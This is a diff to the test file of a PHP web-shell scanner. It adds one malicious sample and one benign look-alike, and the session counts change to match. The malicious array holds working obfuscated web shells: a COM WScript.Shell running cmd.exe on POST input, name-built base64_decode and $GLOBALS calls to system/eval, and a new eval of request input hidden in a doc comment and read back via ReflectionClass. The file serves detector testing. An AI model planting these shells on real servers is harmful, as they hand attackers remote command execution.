@@ -48,6 +48,7 @@ const MALICIOUS: [string, string, string][] = [
   ['a COM WScript.Shell, its name in pieces, running cmd.exe /c with the request\'s command', '/var/www/html/z6.php', `<?php\nclass Notify { public function send($m) { return strlen($m); } }\n$w = new COM('W' . 'Scr' . 'ip' . 't.she' . 'll');\n$e = $w->exec('cm' . 'd.e' . 'xe /c ' . $_POST['command']);\necho $e->StdOut->ReadAll();\n`],
   ['$GLOBALS table picks through an alias of an alias of ($GLOBALS) (S35B-17, -18)', '/var/www/html/z7.php', `<?php\n$g = ($GLOBALS);\n$h = $g;\n$GLOBALS['t'] = "xsyetmavlpo_ECIKU";\n$c = $h[$h['t'][11] . $h['t'][13] . $h['t'][10] . $h['t'][10] . $h['t'][15] . $h['t'][16] . $h['t'][14] . $h['t'][12]];\n@$h[$h['t'][1] . $h['t'][2] . $h['t'][1] . $h['t'][4] . $h['t'][3] . $h['t'][5]]($c['c']);\n@$h[$h['t'][3] . $h['t'][7] . $h['t'][6] . $h['t'][8]]($c['e']);\n@$h[$h['t'][9] . $h['t'][2] . $h['t'][1] . $h['t'][4]]($c['p']);\n`],
   ['a decoder\'s name joined with (int)(128/2), 2**6 or 60+2+2 (S35B-19, -20)', '/var/www/html/z8.php', `<?php\n$d = 'base' . (int)(128/2) . '_de' . 'code';\n$e = 'base' . (2**6) . '_de' . 'code';\n$g = 'base' . (60+2+2) . '_de' . 'code';\n$f = $d('c3lzdGVt');\n$f($_POST['c']);\n`],
+  ['eval of request-input code kept in a doc comment and read back through ReflectionClass', '/var/www/html/z9.php', `<?php\n/**\n * eval($_POST['k']);\n */\nclass Notes {}\n$r = new ReflectionClass('Notes');\n$c = $r->getDocComment();\n$code = substr($c, strpos($c, 'eval'), 18);\neval($code);\n`],
   ['a directory browser finding drives by letter and listing the folder the request names', '/var/www/html/r.php', `<?php\nfunction drives() { foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo "<a href='?d=$l:'>$l:</a> "; }\ndrives();\n$d = isset($_GET['d']) ? $_GET['d'] : getcwd();\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo htmlspecialchars($f), '<br>';\n`],
 ];
 
@@ -84,6 +85,7 @@ const LOOKALIKES: [string, string, string][] = [
   ['a German price text with "= ~€" beside a formatter called with request input (S35B-6)', '/var/www/html/versand.php', `<?php\n$hinweis = "Standardversand = ~€4,90 innerhalb Deutschlands";\n$fmt = isset($_POST['raw']) ? 'floatval' : 'htmlspecialchars';\necho $hinweis, $fmt($_POST['betrag']);\n`],
   ['a schema upgrader whose create_function runs SQL through a method named exec (S35B-5)', '/var/www/html/upgrade.php', `<?php\n$run = create_function('$sql', 'global $db; return $db->exec($sql);');\nif (isset($_POST['step'])) foreach (array('CREATE TABLE t (id INT)') as $q) $run($q);\n`],
   ['a PHP 4 status page running only commands from its own list (S35B-8)', '/var/www/html/status.php', `<?php\n$allowed = array("uptime", "df -h");\nif ($cmd == "") { $cmd = "uptime"; }\nif (in_array($cmd, $allowed)) { echo '<pre>'; system($cmd); echo '</pre>'; }\n?>\n<form method="post"><select name="cmd"><option>uptime</option><option>df -h</option></select></form>\n`],
+  ['an annotation reader showing a doc comment that documents an eval of $_POST, and evaluating a fixed expression', '/var/www/html/annot.php', `<?php\n/**\n * Never write eval($_POST['x']) in a controller.\n * @Route("/calc")\n */\nclass Calc {}\n$r = new ReflectionClass('Calc');\necho htmlspecialchars($r->getDocComment());\n`],
   ['a string with an escaped dollar sign and a str_replace, printed', '/var/www/html/price.php', `<?php\n$t = "Price: \\$AMOUNT";\n$t = str_replace('AMOUNT', number_format((float) $_GET['p'], 2), $t);\necho htmlspecialchars($t);\n`],
 ];
 
@@ -94,7 +96,7 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 32));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 33));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -102,5 +104,5 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 33));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 34));
 });
